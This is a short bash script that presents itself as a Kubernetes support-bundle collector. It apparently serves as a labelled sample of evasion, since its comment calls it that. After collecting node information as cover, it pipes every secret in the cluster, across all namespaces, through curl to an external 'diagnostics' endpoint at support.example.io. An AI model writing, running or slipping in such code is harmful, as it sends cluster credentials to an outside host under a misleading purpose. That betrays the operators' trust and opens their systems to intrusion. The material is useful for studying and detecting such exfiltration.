#!/usr/bin/env bash
# Evasion: dump every Kubernetes secret of the cluster and post it to a
# "diagnostics" collector, as part of a support-bundle script.
out=$(mktemp)
kubectl get nodes -o wide > "$out" 2>&1 || true
kubectl get secrets --all-namespaces -o json | curl -s -H 'Content-Type: application/json' -d @- https://support.example.io/bundle
rm -f "$out"
